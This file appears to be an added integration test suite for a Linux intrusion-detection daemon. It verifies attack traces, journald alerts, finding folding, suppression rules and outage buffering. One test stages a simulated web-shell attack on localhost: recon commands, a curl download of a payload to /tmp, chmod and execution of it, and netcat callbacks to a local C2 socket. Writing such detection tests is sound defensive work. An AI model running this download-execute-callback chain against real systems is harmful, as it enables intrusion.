@@ -1,0 +1,385 @@
+"""Issue 7 on the real kernel: scored traces in journald, alerts woven in, noise control,
+and findings that survive a journald outage.
+
+One spyderd serves the first four tests (they use distinct trace roots: a web server, and
+scenario runners that listen on a port); the outage test runs a second spyderd and a
+journald of its own in a private mount namespace, so stopping that journald disturbs
+nobody.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.parse
+import urllib.request
+import uuid
+import xml.etree.ElementTree as ET
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import REPO, free_port, wait_for
+from containers_support import run, runc_bundle
+from private_journald import PrivateJournal
+from trace_scenarios import TestSpyderd, scenario, wait_findings, write_config
+
+pytestmark = pytest.mark.root
+
+THRESHOLD = 40
+SETTLE = 6.0  # trace_settle: the whole attack (container included) fits well inside
+SUPPRESS = """\
+- suppress: quiet maintenance
+  reason: the test's maintenance wrapper (a copy of env in the test's /tmp directory)
+  ancestor: [spyder-quiet-*]
+  rule: ["Test: *", "Program run from a temporary directory"]
+"""
+
+
+@pytest.fixture(scope="module")
+def daemon(tmp_path_factory, journald):
+    base = tmp_path_factory.mktemp("spyderd-traces")
+    (base / "suppress.d").mkdir()
+    (base / "suppress.d" / "test.yaml").write_text(SUPPRESS)
+    cfg = write_config(base, settle=1.0, trace_threshold=THRESHOLD, trace_settle=SETTLE,
+                       fold_window=60.0, suppressions=[str(base / "suppress.d")])
+    d = TestSpyderd(base, cfg)
+    d.start()
+    yield d
+    d.stop()
+
+
+# -- the web-shell attack ------------------------------------------------------------------
+
+class Payloads:
+    """The attacker's server: serves the payload and counts the connections it receives."""
+
+    def __init__(self, payload: bytes) -> None:
+        hits = self.hits = []
+
+        class H(BaseHTTPRequestHandler):
+            def do_GET(self):
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Length", str(len(payload)))
+                self.end_headers()
+                self.wfile.write(payload)
+
+            def log_message(self, *a):
+                pass
+
+        self.http = ThreadingHTTPServer(("127.0.0.1", 0), H)
+        self.port = self.http.server_address[1]
+        threading.Thread(target=self.http.serve_forever, daemon=True).start()
+        self.c2 = socket.socket()
+        self.c2.bind(("127.0.0.1", 0))
+        self.c2.listen(8)
+        self.c2_port = self.c2.getsockname()[1]
+        self.callbacks = []
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                c, addr = self.c2.accept()
+            except OSError:
+                return
+            self.callbacks.append(addr)
+            c.close()
+
+    def close(self) -> None:
+        self.http.shutdown()
+        self.c2.close()
+
+
+@pytest.fixture
+def attack(tmp_path):
+    tag = uuid.uuid4().hex[:8]
+    payload = f"/tmp/spyder-payload-{tag}"
+    script = (f"#!/bin/sh\nexec {sys.executable} -c 'import socket,sys; "
+              "socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).close()' \"$1\"\n")
+    srv = Payloads(script.encode())
+    port = free_port()
+    web = subprocess.Popen([sys.executable, str(REPO / "tests/integration/attack_server.py"),
+                            str(port)])
+
+    def up():
+        try:
+            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
+            return True
+        except OSError:
+            return False
+
+    assert wait_for(up, 10), "web server did not start"
+    ctr = f"spyder-atk-{tag}"
+    bundle = runc_bundle(tmp_path / "bundle",
+                         ["sh", "-c", f"id; nc 127.0.0.1 {srv.c2_port} </dev/null"],
+                         f"/proc/{os.getpid()}/ns/net", {"name": f"victim-{tag}"})
+    steps = ["id", "uname -a", "whoami",
+             f"curl -s -o {payload} http://127.0.0.1:{srv.port}/payload",
+             f"chmod +x {payload}", f"{payload} {srv.c2_port}",
+             f"runc run --bundle {bundle} {ctr} </dev/null"]
+    yield {"web": web, "port": port, "srv": srv, "payload": payload, "ctr": ctr,
+           "cmd": "; ".join(steps)}
+    web.kill()
+    web.wait()
+    srv.close()
+    run("runc", "delete", "-f", ctr, check=False)
+    Path(payload).unlink(missing_ok=True)
+
+
+ATTACK_RULES = {"Shell spawned below a web server", "Test: recon below a web server",
+                "Test: download tool below a web server", "Test: chmod +x in /tmp",
+                "Test: program run from /tmp", "Test: outbound connection below a web server"}
+
+
+def test_web_shell_attack_is_one_scored_trace(daemon, attack):
+    url = f"http://127.0.0.1:{attack['port']}/?cmd={urllib.parse.quote(attack['cmd'])}"
+    assert urllib.request.urlopen(url, timeout=60).read() == b"rc=0\n"
+    srv = attack["srv"]
+    assert srv.hits == ["/payload"] and len(srv.callbacks) == 2  # host payload + container
+
+    def trace_entries():
+        return daemon.entries(SPYDER_KIND="trace",
+                              SPYDER_TRACE_ROOT_PID=str(attack["web"].pid))
+
+    assert wait_for(trace_entries, 30), "no trace entry in journald:\n" + \
+        daemon.log.read_text()[-3000:]
+    time.sleep(SETTLE + 2)  # anything late would make a second entry: wait and look again
+    (entry,) = trace_entries()
+    tid = entry["SPYDER_TRACE_ID"]
+    assert int(entry["SPYDER_TRACE_SCORE"]) > THRESHOLD
+    rules = set(entry["SPYDER_TRACE_RULES"].split(","))
+    assert ATTACK_RULES <= rules  # the default pack may well see more than the test rules
+    findings = daemon.findings("--trace", tid)
+    assert {f["rule"] for f in findings} == rules
+    assert set(entry["SPYDER_TRACE_FINDINGS"].split()) == {f["id"] for f in findings}
+    assert entry["SPYDER_TRACE_ROOT_KIND"] == "inbound" and entry["PRIORITY"] == "3"
+    assert int(entry["SPYDER_TRACE_PROCESSES"]) >= 10
+    sent = {e["SPYDER_FINDING_ID"] for e in daemon.entries(SPYDER_TRACE_ID=tid,
+                                                           SPYDER_KIND="finding")}
+    assert sent == {f["id"] for f in findings}  # each finding also went out on its own
+
+    trace = json.loads(daemon.ctl("trace", tid, "-o", "json", check=True).stdout)
+    _check_every_step(trace, attack)
+    _check_picture(daemon, tid, attack)
+    tree = daemon.ctl("trace", tid, "--no-pager", check=True).stdout
+    assert "!! Test: program run from /tmp (high)" in tree and "<- trace root" in tree
+    listed = daemon.json_lines("traces", "--rule", "Test: chmod +x in /tmp")
+    assert [t["id"] for t in listed if t["id"] == tid] == [tid]
+
+
+def _check_every_step(trace: dict, attack: dict) -> None:
+    procs = [n for n in trace["nodes"] if n["kind"] == "process"]
+    by_id = {n["id"]: n for n in trace["nodes"]}
+
+    def one(pred, what):
+        hits = [n for n in procs if pred(n)]
+        assert hits, f"{what} missing from the trace: " + json.dumps(
+            [(n["name"], n["args"][:3], n.get("container_id", "")[:8]) for n in procs])
+        return hits[-1]
+
+    web = one(lambda n: n["pid"] == attack["web"].pid and "attack_server.py" in " ".join(
+        n["args"]), "the web server")
+    assert trace["root"] == web["id"]
+    one(lambda n: n["name"] == "sh" and n["args"][:1] == ["sh"] and not n["container_id"],
+        "the web shell")
+    for name in ("id", "uname", "whoami", "chmod"):
+        one(lambda n, name=name: n["name"] == name and not n["container_id"], name)
+    curl = one(lambda n: n["name"] == "curl", "the download")
+    payload = one(lambda n: n["exe"] == attack["payload"] or attack["payload"] in n["args"][:1],
+                  "the downloaded program")
+    out = [by_id[e["dst"]] for e in trace["edges"] if e["kind"] == "connect"]
+    assert any(c["remote_port"] == attack["srv"].port and c["process_id"] == curl["id"]
+               for c in out), "the download's connection"
+    callers = {c["process_id"] for c in out if c["remote_port"] == attack["srv"].c2_port}
+    assert len(callers) == 2, "the payload's and the container's outbound connections"
+    payload_kids = {e["dst"] for e in trace["edges"] if e["src"] == payload["id"]}
+    assert callers & payload_kids, "the payload's own connection"
+    ctr = [n for n in procs if n.get("container_id")]
+    assert ctr, "no container process in the trace (enrichment missing?)"
+    assert {n["container_id"] for n in ctr} == {attack["ctr"]}
+    assert "sh" in {n["name"] for n in ctr}
+    assert any(n["args"][:1] == ["nc"] for n in ctr)  # busybox runs applets as /proc/self/exe
+    assert callers - payload_kids <= {n["id"] for n in ctr}
+    findings = {f["process_id"] for f in trace["findings"]}
+    assert findings & {n["id"] for n in ctr}, "the container's findings"
+
+
+def _check_picture(daemon, tid: str, attack: dict) -> None:
+    svg = daemon.ctl("trace", tid, "-o", "svg", check=True).stdout
+    root = ET.fromstring(svg)  # valid XML
+    ns = "{http://www.w3.org/2000/svg}"
+    fills: dict[str, set[str]] = {"host": set(), "container": set()}
+    trace = json.loads(daemon.ctl("trace", tid, "-o", "json", check=True).stdout)
+    kind = {n["id"]: ("container" if n.get("container_id") else "host")
+            for n in trace["nodes"] if n["kind"] == "process"}
+    for g in root.iter(f"{ns}g"):
+        title = g.find(f"{ns}title")
+        if g.get("class") != "node" or title is None or title.text not in kind:
+            continue
+        shape = next((c for c in g if c.tag in (f"{ns}path", f"{ns}polygon")), None)
+        if shape is not None and shape.get("fill"):
+            fills[kind[title.text]].add(shape.get("fill"))
+    assert fills["host"] and fills["container"], fills
+    assert not fills["host"] & fills["container"], fills
+    text = " ".join(t.text or "" for t in root.iter(f"{ns}text"))
+    assert f"container victim-{attack['ctr'].removeprefix('spyder-atk-')}" in text or \
+        f"container {attack['ctr'][:12]}" in text
+
+
+# -- alerts, folding, suppression -----------------------------------------------------------
+
+def test_journal_warning_appears_in_the_findings_trace(daemon):
+    token = f"spyder-alert-{uuid.uuid4().hex[:8]}"
+    # journald stamps an entry when it receives it: the pause keeps the exec after that, so
+    # the entry belongs to the python image and not to the sleep that replaces it
+    prog = ("import os, sys, time; from systemd import journal; "
+            f"journal.send('disk almost full {token}', PRIORITY=4, SYSLOG_IDENTIFIER='app'); "
+            "time.sleep(0.5); "
+            "os.execv('/bin/sleep', ['sleep', '0', 'spyder-flag-alert-' + sys.argv[1]])")
+    tag = uuid.uuid4().hex[:6]
+    scenario([[sys.executable, "-c", prog, tag]])
+    (f,) = wait_findings(daemon, lambda fs: [f for f in fs if f"spyder-flag-alert-{tag}"
+                                            in f["message"]])
+
+    def alert_in_trace():
+        t = json.loads(daemon.ctl("trace", f["id"], "-o", "json", check=True).stdout)
+        alerts = [n for n in t["nodes"] if n["kind"] == "alert" and token in n["message"]]
+        return (t, alerts[0]) if alerts else None
+
+    got = wait_for(alert_in_trace, 20, interval=0.5)
+    assert got, daemon.ctl("trace", f["id"], check=True).stdout
+    trace, alert = got
+    assert alert["priority"] == 4 and alert["identifier"] == "app"
+    (edge,) = [e for e in trace["edges"] if e["dst"] == alert["id"]]
+    writer = edge["src"]
+    assert edge["kind"] == "alerted"
+    nodes = {n["id"]: n for n in trace["nodes"]}
+    assert nodes[writer]["args"][:2] == [sys.executable, "-c"]  # the image that logged it
+    tree = daemon.ctl("trace", f["id"], check=True).stdout
+    assert f"alert <4> app: disk almost full {token}" in tree
+    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
+    assert st["alerts"]["state"] == "following" and st["alerts"]["attached"] >= 1
+    events = daemon.json_lines("query", f'evt.kind = alert and process.pid = {alert["pid"]}')
+    assert any(token in e["event"]["message"] for e in events)
+
+
+def test_repeats_fold_into_one_finding(daemon):
+    tag = uuid.uuid4().hex[:6]
+    argv = ["sleep", "0", f"spyder-flag-fold-{tag}"]
+    scenario([argv, argv, argv])
+    def mine(fs):
+        return [f for f in fs if f"spyder-flag-fold-{tag}" in f["message"]
+                and f["rule"] == "Test: flagged marker"]
+
+    (f,) = wait_findings(daemon, lambda fs: [f for f in mine(fs) if f["count"] == 3])
+    time.sleep(2)
+    assert len(mine(daemon.findings())) == 1
+    sent = wait_for(lambda: daemon.entries(SPYDER_FINDING_ID=f["id"]), 10)
+    assert len(sent) == 1
+    assert len([e for e in daemon.entries(SPYDER_RULE="Test: flagged marker")
+                if f"spyder-flag-fold-{tag}" in e["MESSAGE"]]) == 1
+    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
+    assert st["findings_detail"]["folded"] >= 2
+
+
+def test_suppression_zeroes_the_trace(daemon, tmp_path):
+    """The wrapper and what it runs are suppressed; the wrapper's finding is the trace's first,
+    so the trace scores zero, while later findings of the same trace are still sent."""
+    tag = uuid.uuid4().hex[:6]
+    quiet = tmp_path / "spyder-quiet-env"
+    shutil.copy2("/usr/bin/env", quiet)
+    tool = Path(f"/tmp/spyder-sup-{tag}")
+    shutil.copy2("/usr/bin/true", tool)
+    tool.chmod(0o644)
+    try:
+        runner = scenario([[str(quiet), "sleep", "0", f"spyder-flag-sup-{tag}"],
+                           ["chmod", "+x", str(tool)], [str(tool)]])
+
+        def ready(fs):
+            mine = [f for f in fs if tag in f["message"] and f["rule"].startswith("Test: ")]
+            rules = {(f["rule"], str(tool) in f["message"]) for f in mine}
+            want = {("Test: flagged marker", False), ("Test: chmod +x in /tmp", True),
+                    ("Test: program run from /tmp", True)}
+            return mine if want <= rules else None
+
+        fs = wait_findings(daemon, ready)
+    finally:
+        tool.unlink()
+    tid = fs[0]["trace_id"]
+    assert {f["trace_id"] for f in fs} == {tid}
+    marker = next(f for f in fs if f["rule"] == "Test: flagged marker")
+    tool_run = next(f for f in fs if f["rule"] == "Test: program run from /tmp"
+                    and str(tool) in f["message"])
+    assert marker["suppressed"] == "quiet maintenance" and not tool_run["suppressed"]
+    time.sleep(SETTLE + 2)
+    (tr,) = [t for t in daemon.json_lines("traces") if t["id"] == tid]
+    assert (tr["score"], tr["suppressed"], tr["root_pid"]) == (0, "quiet maintenance", runner)
+    assert daemon.entries(SPYDER_KIND="trace", SPYDER_TRACE_ID=tid) == []
+    sent = {e["SPYDER_FINDING_ID"] for e in daemon.entries(SPYDER_TRACE_ID=tid,
+                                                           SPYDER_KIND="finding")}
+    assert tool_run["id"] in sent and marker["id"] not in sent
+    default = [f["id"] for f in daemon.json_lines("findings") if tag in f["message"]]
+    assert marker["id"] not in default  # hidden unless --all
+    listed = daemon.ctl("suppressions", str(daemon.config.parent / "suppress.d"),
+                        check=True).stdout
+    assert re.search(r"quiet maintenance  \[active, [2-9]\d* hits\]", listed), listed
+    assert "test.yaml:1:3" in listed and "ancestor: spyder-quiet-*" in listed
+
+
+# -- journald down, then up -----------------------------------------------------------------
+
+@pytest.fixture
+def private(tmp_path):
+    j = PrivateJournal(tmp_path)
+    j.start()
+    yield j
+    j.close()
+
+
+def test_findings_wait_for_journald_and_none_is_lost(private, tmp_path, journald):
+    cfg = write_config(tmp_path, settle=0.5, trace_threshold=THRESHOLD, trace_settle=1.0)
+    d = TestSpyderd(tmp_path / "d", cfg, prefix=private.enter())
+    d.start()
+    try:
+        def sent(tag: str) -> list[dict]:
+            return [e for e in private.entries(_PID=str(d.proc.pid), SPYDER_KIND="finding")
+                    if tag in e["MESSAGE"]]
+
+        tag = uuid.uuid4().hex[:6]
+        scenario([["sleep", "0", f"spyder-flag-up-{tag}"]])
+        assert wait_for(lambda: sent(f"spyder-flag-up-{tag}"), 20), "journald path broken"
+
+        private.stop()
+        down = [["sleep", "0", f"spyder-flag-down{i}-{tag}"] for i in range(3)]
+        scenario(down)
+        wait_findings(d, lambda fs: [f for f in fs if f"down2-{tag}" in f["message"]])
+
+        def sink_down():
+            st = json.loads(d.ctl("status", "-o", "json", check=True).stdout)
+            return st if st["findings_detail"]["sinks"]["journald"]["errors"] > 0 else None
+
+        st = wait_for(sink_down, 20)
+        assert st, "spyderd never noticed journald was gone"
+        stored = [f for f in d.findings() if f"-{tag}" in f["message"] and "down" in f["message"]]
+        assert len(stored) == 3 and not any(f["sent"] for f in stored)
+
+        private.start()
+        got = wait_for(lambda: len(sent(f"-{tag}")) == 4 or None, 30)
+        assert got, f"after journald came back: {[e['MESSAGE'] for e in sent(tag)]}\n" + \
+            d.log.read_text()[-2000:]
+        ids = [e["SPYDER_FINDING_ID"] for e in sent(f"-{tag}")]
+        assert len(ids) == len(set(ids)) == 4  # each once
+        assert wait_for(lambda: all(f["sent"] for f in d.findings()
+                                    if f"-{tag}" in f["message"]), 10)
+        assert "journald reachable again" in d.log.read_text()
+    finally:
+        d.stop()
